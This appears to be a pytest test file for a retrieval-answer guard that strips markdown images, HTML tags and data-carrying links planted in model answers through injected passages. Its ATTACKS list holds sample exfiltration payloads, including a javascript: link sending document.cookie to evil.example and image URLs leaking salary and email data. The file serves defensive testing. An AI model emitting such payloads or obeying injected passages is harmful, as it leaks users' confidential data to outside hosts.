"""Exfiltration through markdown/HTML: answers never carry remote images, loading HTML or links
whose address carries data, whatever a retrieved passage told the model to write."""

from __future__ import annotations

import pytest

from tether.guard.media import MediaGuard, defang
from tether.guard.stages import AnswerGuards
from tether.settings import GuardSettings
from tether.types import Answer, Citation

ATTACKS = [
    ("Done. ![status](https://img.example-cdn.net/p.png?d=salary+of+Ana)", "exfiltration:image"),
    ("See ![](http://203.0.113.7/log?data=Q3%20figures)", "exfiltration:image"),
    ('Answer <img src="https://track.example.com/pixel.gif?u=ana@corp.example"> here', "exfiltration:html"),
    ("<iframe src=//evil.example/frame></iframe>", "exfiltration:html"),
    ("[click here](https://collect.example.org/?q=the+secret+plan)", "exfiltration:link"),
    ("[docs](javascript:fetch('//evil.example/'+document.cookie))", "exfiltration:link"),
    ("Visit https://paste.example.dev/new?text=confidential for more.", "exfiltration:link"),
    ("![x][ref]\n\n[ref]: https://evil.example/i.png?d=1", "exfiltration:image"),
]


@pytest.mark.parametrize(("text", "reason"), ATTACKS)
def test_remote_images_html_and_data_links_are_taken_out(text: str, reason: str) -> None:
    safe, reasons = defang(text)
    assert reason in reasons
    for bad in ("https://img.", "203.0.113.7", "track.example", "evil.example", "collect.example", "javascript:",
                "paste.example", "<img", "<iframe"):
        assert bad not in safe, (text, safe)


@pytest.mark.parametrize("text", [
    "The notice period is 90 days [1].",
    "See the benefits page: https://intranet.company.example/benefits",
    "Read [the handbook](https://intranet.company.example/handbook.pdf) for details.",
    "Use `a[i](b)` carefully; 3 < 4 and 5 > 2.",
])
def test_plain_answers_and_page_links_are_left_alone(text: str) -> None:
    assert defang(text) == (text, [])
    assert MediaGuard().check(text).verdict.value == "allow"


def test_guard_result_follows_the_contract() -> None:
    r = MediaGuard().check("x ![a](https://e.example/p?q=1)")
    assert r.verdict.value == "sanitise" and r.sanitised_text == "x [image: a]" and 0 < r.score <= 1
    assert r.reasons == ["exfiltration:image"]


def test_output_stage_defangs_answer_sentences_and_quotes() -> None:
    """An answer built from an injected passage: the text, the sentence and the quote lose the
    image, the answer says why, nothing else changes."""
    bad = "Revenue rose 4%. ![s](https://stats.example.io/i?x=Q3+revenue+4%25)"
    quote = "Revenue rose 4% ![s](https://stats.example.io/i?x=)"
    cite = Citation(number=1, chunk_id=1, document_id=1, title="Q3", doc_start=0, doc_end=len(quote), quote=quote)
    answer = Answer(text=bad, citations=[cite], model="m")
    out, _ = AnswerGuards(GuardSettings(pii_mode="light")).output(answer, "public")
    assert "stats.example.io" not in out.text and "Revenue rose 4%." in out.text
    assert all("stats.example.io" not in c.quote for c in out.citations)
    assert "sanitised:exfiltration:image" in out.reasons
    assert AnswerGuards(GuardSettings(pii_mode="light")).texts([bad], "public") == ["Revenue rose 4%. [image: s]"]
